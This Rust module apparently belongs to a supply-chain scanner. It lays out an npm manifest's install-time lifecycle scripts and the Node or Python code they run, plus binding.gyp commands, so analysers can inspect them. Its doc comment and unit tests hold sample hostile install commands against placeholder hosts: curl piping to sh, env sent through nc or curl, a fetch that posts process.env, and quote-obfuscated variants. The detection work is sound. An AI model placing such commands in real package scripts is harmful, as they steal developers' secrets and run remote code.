//! The commands of `package.json` that run on install, laid out where they stand in the
//! manifest, so that analysers can read them as the shell code they are.
//!
//! A lifecycle script is a shell command line: `curl -d "$(env)" https://x` in a
//! `preinstall` is the whole attack, with no JavaScript file to read. The view is the
//! manifest with every byte blanked except the commands npm runs on install (the
//! lifecycle scripts and the scripts they name in `npm run x`), with line breaks kept:
//! a hit in the view is at the line and column of the command in the manifest.
//!
//! Commands are located by walking the manifest's own bytes, so a key written twice (JSON
//! parsers keep the last) shows both commands, and a manifest on one line works as well.

use super::LIFECYCLE;
use super::node_eval::{mentions_runtime, node_eval_ranges, python_eval_ranges};
use super::node_json;
use super::on_demand::reached_on_install;
use crate::common::strip_bom;
use palisade_core::{NPM_INSTALL_SCRIPTS, Package};
use serde_json::{Map, Value};
use std::collections::BTreeSet;
use std::ops::Range;

/// The install-time commands of a manifest, laid out where they stand in it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstallScriptView {
    /// The manifest with only its install-time commands left, JSON escapes replaced by
    /// text of the same length.
    pub shell: Vec<u8>,
    /// The same layout with only the code those commands hand to a JavaScript runtime
    /// (`node -e "..."`); `None` when they hand it none.
    pub javascript: Option<Vec<u8>>,
    /// The same layout with only the code they hand to Python (`python3 -c "..."`).
    pub python: Option<Vec<u8>>,
}

/// The install-time view of an npm package's manifest; `None` when no script runs on
/// install or the manifest cannot be read.
pub fn npm_install_script_view(package: &Package) -> Option<InstallScriptView> {
    if package.ecosystem != Some(palisade_core::Ecosystem::Npm) {
        return None;
    }
    let manifest = package.manifest()?;
    install_script_view(strip_bom(&manifest.data))
}

fn install_script_view(data: &[u8]) -> Option<InstallScriptView> {
    let json = node_json::parse(data).ok()?;
    let data: &[u8] = &json.bytes;
    let Value::Object(manifest) = &json.value else {
        return None;
    };
    let Some(Value::Object(scripts)) = manifest.get("scripts") else {
        return None;
    };
    let run = run_on_install(scripts);
    let blank: Vec<u8> = data
        .iter()
        .map(|&b| if b == b'\n' { b'\n' } else { b' ' })
        .collect();
    let mut shell = blank.clone();
    let mut javascript: Option<Vec<u8>> = None;
    let mut python: Option<Vec<u8>> = None;
    let mut any = false;
    for (name, span) in script_spans(data) {
        if !run.contains(&name) {
            continue;
        }
        let command = &mut shell[span.start..span.end + 1];
        write_command(&data[span.start - 1..span.end + 1], command);
        let mut code = node_eval_ranges(command);
        // Code the flags do not show (`sh -c 'node -e ...'`, `echo ... | node`, `node -e
        // "$C"`) is looked for in the whole command, with shell globs kept from opening
        // JavaScript comments over it.
        let unseen = code.is_empty() || code.iter().any(|r| command.get(r.start) == Some(&b'$'));
        let whole = unseen && mentions_runtime(command);
        if whole {
            code = std::iter::once(0..command.len()).collect();
        }
        for code in code {
            let js = javascript.get_or_insert_with(|| blank.clone());
            let at = span.start + code.start..span.start + code.end;
            js[at.clone()].copy_from_slice(&command[code]);
            if whole {
                neutralise_comments(&mut js[at]);
            }
        }
        for code in python_eval_ranges(command) {
            let py = python.get_or_insert_with(|| blank.clone());
            let at = span.start + code.start..span.start + code.end;
            py[at].copy_from_slice(&command[code]);
        }
        any = true;
    }
    any.then_some(InstallScriptView {
        shell,
        javascript,
        python,
    })
}

/// The JavaScript a `binding.gyp` (or `.gypi`) hands to a runtime in its command
/// expansions and actions (`'<!(node -e "...")'`), which node-gyp runs on install, at
/// its place in the file: gyp's string escapes (`\\'`) are undone first, each line
/// padded back to its length so that lines stay where they are. The code of `node -e`
/// is cut out of each line that names a runtime; a line that names one but shows no
/// such code (an action's `['node', 'x.js']`, a pipe) is kept whole, with JavaScript
/// comment openers blanked. The rest of the file is data that runs nowhere. `None` when
/// the file names no runtime.
pub fn gyp_javascript_view(data: &[u8]) -> Option<Vec<u8>> {
    if !mentions_runtime(data) {
        return None;
    }
    Some(gyp_view(data, |plain, code| {
        if !mentions_runtime(plain) {
            return;
        }
        let start = command_start(plain);
        let ranges = node_eval_ranges(&plain[start..]);
        if ranges.is_empty() {
            code.copy_from_slice(plain);
            neutralise_comments(code);
        }
        for range in ranges {
            let at = start + range.start..start + range.end;
            code[at.clone()].copy_from_slice(&plain[at]);
        }
    }))
}

/// The Python a `binding.gyp` (or `.gypi`) hands to `python -c` in its command
/// expansions, laid out as [`gyp_javascript_view`] lays out JavaScript; `None` when it
/// hands it none.
pub fn gyp_python_view(data: &[u8]) -> Option<Vec<u8>> {
    let mut any = false;
    let view = gyp_view(data, |plain, code| {
        let start = command_start(plain);
        for range in python_eval_ranges(&plain[start..]) {
            let at = start + range.start..start + range.end;
            code[at.clone()].copy_from_slice(&plain[at]);
            any = true;
        }
    });
    any.then_some(view)
}

/// A view of a gyp file at its own lines: `keep` is given each line with its escapes
/// undone, and copies into the blank line beside it what the view shows.
fn gyp_view(data: &[u8], mut keep: impl FnMut(&[u8], &mut [u8])) -> Vec<u8> {
    let mut view = Vec::with_capacity(data.len());
    for line in data.split_inclusive(|&b| b == b'\n') {
        let (body, end) = match line.strip_suffix(b"\n") {
            Some(body) => (body, &b"\n"[..]),
            None => (line, &b""[..]),
        };
        let plain = gyp_unescaped(body);
        let mut code = vec![b' '; body.len()];
        keep(&plain, &mut code);
        view.extend_from_slice(&code);
        view.extend_from_slice(end);
    }
    view
}

/// Where the command of a gyp line's expansion starts: after its `<!(` or `<!@(`, else
/// at the line's start (an action's command list).
fn command_start(line: &[u8]) -> usize {
    memchr::memmem::find(line, b"<!").map_or(0, |at| {
        at + line[at..]
            .iter()
            .position(|&b| b == b'(')
            .map_or(2, |p| p + 1)
    })
}

/// A gyp line with its string escapes (`\\'`) undone, padded back to its length.
fn gyp_unescaped(body: &[u8]) -> Vec<u8> {
    let mut plain = Vec::with_capacity(body.len());
    let mut i = 0;
    while i < body.len() {
        if body[i] == b'\\' && matches!(body.get(i + 1), Some(b'\'' | b'"')) {
            i += 1;
        }
        plain.push(body[i]);
        i += 1;
    }
    plain.resize(body.len(), b' ');
    plain
}

/// The scripts npm runs on install: the lifecycle hooks present and every script they
/// name, even where a hook could also start scripts unnamed (the view shows what can be
/// read; weighing what cannot is the on-demand check's concern).
fn run_on_install(scripts: &Map<String, Value>) -> BTreeSet<String> {
    let mut run: BTreeSet<String> = reached_on_install(scripts)
        .into_iter()
        .map(str::to_string)
        .collect();
    for hook in LIFECYCLE.iter().chain(NPM_INSTALL_SCRIPTS.iter()) {
        if scripts.contains_key(*hook) {
            run.insert(hook.to_string());
        }
    }
    run
}

/// Writes the command a JSON string stands for into `out`, the string's span with its
/// closing quote: decoded, left-aligned, padded with spaces and ended by `;`, so that
/// an escape cannot split a word (`\u0073h` is `sh`) and two commands on one line stay
/// two. A decoded line break becomes `;`, as it separates commands in a shell, and
/// keeps every later line where it is. Decoding never lengthens a JSON string.
fn write_command(quoted: &[u8], out: &mut [u8]) {
    let Ok(command) = serde_json::from_slice::<String>(quoted) else {
        return;
    };
    let end = out.len() - 1;
    for (slot, byte) in out[..end].iter_mut().zip(shell_words(&command)) {
        *slot = if byte == b'\n' || byte == b'\r' {
            b';'
        } else {
            byte
        };
    }
    out[end] = b';';
}

/// Blanks `/*` and `*/`, which in shell text are globs, not comments.
fn neutralise_comments(text: &mut [u8]) {
    for i in 1..text.len() {
        if matches!((text[i - 1], text[i]), (b'/', b'*') | (b'*', b'/')) {
            text[i - 1] = b' ';
            text[i] = b' ';
        }
    }
}

/// The command with the quoting a shell removes inside a word taken out, so that
/// `e""nv`, `e''nv`, `e"n"v` and `e\nv` read as `env`: empty quote pairs anywhere, a
/// quoted run of plain characters glued to a word, and a backslash before a letter or
/// digit outside quotes. Inside quotes a backslash stays, as the shell keeps it there
/// (`node -e "...'\x63url'..."` is JavaScript's to decode). Only ever shortens.
fn shell_words(command: &str) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(command.len());
    let raw = command.as_bytes();
    let mut i = 0;
    while i < raw.len() {
        match (raw[i], raw.get(i + 1)) {
            (b'"', Some(b'"')) | (b'\'', Some(b'\'')) => i += 2,
            (byte, _) => {
                bytes.push(byte);
                i += 1;
            }
        }
    }
    let plain = |c: &u8| c.is_ascii_alphanumeric() || b"_./-".contains(c);
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let byte = bytes[i];
        if byte == b'\\' && bytes.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) {
            i += 1;
            continue;
        }
        if byte == b'"' || byte == b'\'' {
            let Some(length) = bytes[i + 1..].iter().position(|&c| c == byte) else {
                out.extend_from_slice(&bytes[i..]);
                break;
            };
            let close = i + 1 + length;
            let inner = &bytes[i + 1..close];
            let glued = (i > 0 && bytes[i - 1].is_ascii_alphanumeric())
                || bytes.get(close + 1).is_some_and(u8::is_ascii_alphanumeric);
            if glued && inner.iter().all(plain) {
                out.extend_from_slice(inner);
            } else {
                out.extend_from_slice(&bytes[i..=close]);
            }
            i = close + 1;
            continue;
        }
        out.push(byte);
        i += 1;
    }
    out
}

/// Each `"name": "command"` pair of the top-level `scripts` object(s), with the byte
/// range of the command inside its quotes. The data must be valid JSON.
fn script_spans(data: &[u8]) -> Vec<(String, Range<usize>)> {
    let mut out = Vec::new();
    let mut at = skip_space(data, 0);
    if data.get(at) != Some(&b'{') {
        return out;
    }
    at += 1;
    loop {
        at = skip_space(data, at);
        let Some(key) = string_at(data, at) else {
            return out;
        };
        at = skip_space(data, key.end + 1);
        if data.get(at) != Some(&b':') {
            return out;
        }
        at = skip_space(data, at + 1);
        let is_scripts = decoded(data, &key).as_deref() == Some("scripts");
        if is_scripts && data.get(at) == Some(&b'{') {
            at = pairs(data, at + 1, &mut out);
        } else {
            at = skip_value(data, at);
        }
        at = skip_space(data, at);
        match data.get(at) {
            Some(b',') => at += 1,
            _ => return out,
        }
    }
}

/// Reads the pairs of an object from just after its `{`, recording string values;
/// returns the offset after its `}`.
fn pairs(data: &[u8], mut at: usize, out: &mut Vec<(String, Range<usize>)>) -> usize {
    loop {
        at = skip_space(data, at);
        if data.get(at) == Some(&b'}') {
            return at + 1;
        }
        let Some(key) = string_at(data, at) else {
            return data.len();
        };
        at = skip_space(data, key.end + 1);
        if data.get(at) != Some(&b':') {
            return data.len();
        }
        at = skip_space(data, at + 1);
        if let (Some(value), Some(name)) = (string_at(data, at), decoded(data, &key)) {
            at = value.end + 1;
            out.push((name, value));
        } else {
            at = skip_value(data, at);
        }
        at = skip_space(data, at);
        match data.get(at) {
            Some(b',') => at += 1,
            Some(b'}') => return at + 1,
            _ => return data.len(),
        }
    }
}

fn skip_space(data: &[u8], mut at: usize) -> usize {
    while data.get(at).is_some_and(u8::is_ascii_whitespace) {
        at += 1;
    }
    at
}

/// The inner range of the string whose opening quote is at `at`.
fn string_at(data: &[u8], at: usize) -> Option<Range<usize>> {
    if data.get(at) != Some(&b'"') {
        return None;
    }
    let mut i = at + 1;
    while i < data.len() {
        match data[i] {
            b'\\' => i += 2,
            b'"' => return Some(at + 1..i),
            _ => i += 1,
        }
    }
    None
}

fn decoded(data: &[u8], inner: &Range<usize>) -> Option<String> {
    serde_json::from_slice(&data[inner.start - 1..inner.end + 1]).ok()
}

/// The offset just after the value starting at `at`: a string, or anything up to the
/// `,`, `}` or `]` that ends it at depth zero. Depth is a counter, not recursion.
fn skip_value(data: &[u8], mut at: usize) -> usize {
    let mut depth = 0usize;
    while at < data.len() {
        match data[at] {
            b'"' => match string_at(data, at) {
                Some(inner) => at = inner.end,
                None => return data.len(),
            },
            b'{' | b'[' => depth += 1,
            b'}' | b']' if depth == 0 => return at,
            b'}' | b']' => depth -= 1,
            b',' if depth == 0 => return at,
            _ => {}
        }
        at += 1;
    }
    at
}

#[cfg(test)]
mod tests {
    use super::install_script_view;

    fn view(json: &str) -> Option<String> {
        install_script_view(json.as_bytes()).map(|v| String::from_utf8(v.shell).unwrap())
    }

    #[test]
    fn only_install_time_commands_are_left_where_they_stand() {
        let json = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"curl https://t.example\",\n    \"preinstall\": \"curl -d \\\"$(env)\\\" https://x.example\"\n  }\n}";
        let v = view(json).unwrap();
        assert_eq!(v.len(), json.len());
        assert_eq!(v.lines().count(), json.lines().count());
        let line = v.lines().nth(4).unwrap();
        assert_eq!(line.trim(), "curl -d \"$(env)\" https://x.example  ;");
        assert!(!v.contains("t.example"), "{v}");
        assert!(!v.contains("name"), "{v}");
    }

    #[test]
    fn scripts_named_by_a_hook_and_duplicate_keys_are_shown() {
        let json = r#"{"scripts": {"postinstall": "echo ok", "postinstall": "npm run x", "x": "wget -q http://y.example/a", "build": "tsc"}}"#;
        let v = view(json).unwrap();
        assert!(v.contains("echo ok"), "{v}");
        assert!(v.contains("npm run x"), "{v}");
        assert!(v.contains("wget -q http://y.example/a"), "{v}");
        assert!(!v.contains("tsc"), "{v}");
    }

    #[test]
    fn escapes_cannot_split_a_word_and_commands_on_one_line_stay_apart() {
        let v = view(r#"{"scripts": {"preinstall": "curl https:\/\/x.example\/a | \u0073h", "install": "env | nc x 1"}}"#).unwrap();
        let commands: Vec<&str> = v.split(';').map(str::trim).collect();
        assert_eq!(
            commands[..2],
            ["curl https://x.example/a | sh", "env | nc x 1"],
            "{v}"
        );
        let v = view(r#"{"scripts": {"install": "curl -d \"$(e\"\"nv)\" x; e''nv | nc x 1; e\\nv | nc y 1"}}"#).unwrap();
        assert!(
            v.contains(r#"curl -d "$(env)" x; env | nc x 1; env | nc y 1"#),
            "{v}"
        );
        let v = view("{\"scripts\": {\"postinstall\": \"echo a\\nenv | curl -d @- x\"}}").unwrap();
        assert!(v.contains("echo a;env | curl -d @- x"), "{v}");
        assert_eq!(v.lines().count(), 1);
    }

    #[test]
    fn python_handed_code_on_install_is_cut_out() {
        let v = install_script_view(
            br#"{"scripts": {"preinstall": "python3 -c \"import os; print(os.environ)\" || true"}}"#,
        )
        .unwrap();
        let py = String::from_utf8(v.python.unwrap()).unwrap();
        assert_eq!(py.trim(), "import os; print(os.environ)");
        let gyp = b"{ 'v': '<!(python3 -c \"import os; os.system(\\'id\\')\")' }\n";
        let view = String::from_utf8(super::gyp_python_view(gyp).unwrap()).unwrap();
        assert_eq!(view.trim(), "import os; os.system('id')");
        assert_eq!(super::gyp_python_view(b"{ 'x': '<!(node -e 1)' }"), None);
    }

    #[test]
    fn gyp_escapes_are_undone_at_the_same_lines() {
        let gyp = b"{\n 'v': '<!(node -e \"require(\\'https\\').get(u)\")',\n 'w': 1 }\n";
        let view = super::gyp_javascript_view(gyp).unwrap();
        assert_eq!(view.len(), gyp.len());
        let text = String::from_utf8(view).unwrap();
        assert!(text.contains(" require('https').get(u) "), "{text}");
        // Only the code handed to Node is left; the data around it is blank.
        assert!(!text.contains("'v'"), "{text}");
        assert_eq!(text.lines().nth(2).map(str::trim), Some(""));
        assert_eq!(super::gyp_javascript_view(b"{ 'sources': ['a.cc'] }"), None);
    }

    #[test]
    fn only_code_handed_to_node_is_javascript() {
        let json = r#"{"scripts": {"postinstall": "rm -rf dist/* && node -e \"fetch(u, {body: JSON.stringify(process.env)})\" || true"}}"#;
        let v = install_script_view(json.as_bytes()).unwrap();
        let js = String::from_utf8(v.javascript.unwrap()).unwrap();
        assert_eq!(js.trim(), "fetch(u, {body: JSON.stringify(process.env)})");
        let at = js.find("fetch").unwrap();
        assert_eq!(&v.shell[at..at + 5], b"fetch");
        let plain = install_script_view(br#"{"scripts": {"install": "node-gyp rebuild"}}"#);
        assert_eq!(plain.unwrap().javascript, None);
        // Code reaching node another way: the whole command, its globs kept inert.
        let piped = install_script_view(
            br#"{"scripts": {"install": "cp a/* b && echo 'process.env' | node"}}"#,
        );
        let js = String::from_utf8(piped.unwrap().javascript.unwrap()).unwrap();
        assert!(js.contains("process.env") && !js.contains("/*"), "{js}");
    }

    #[test]
    fn nothing_to_show_without_install_scripts_or_readable_json() {
        assert_eq!(view(r#"{"scripts": {"build": "tsc"}}"#), None);
        assert_eq!(view(r#"{"name": "x"}"#), None);
        assert_eq!(view("{\"scripts\": {\"postinstall\": \"x\""), None);
        // A `scripts` key nested elsewhere is not the manifest's scripts.
        assert_eq!(
            view(r#"{"config": {"scripts": {"postinstall": "curl x"}}}"#),
            None
        );
    }
}
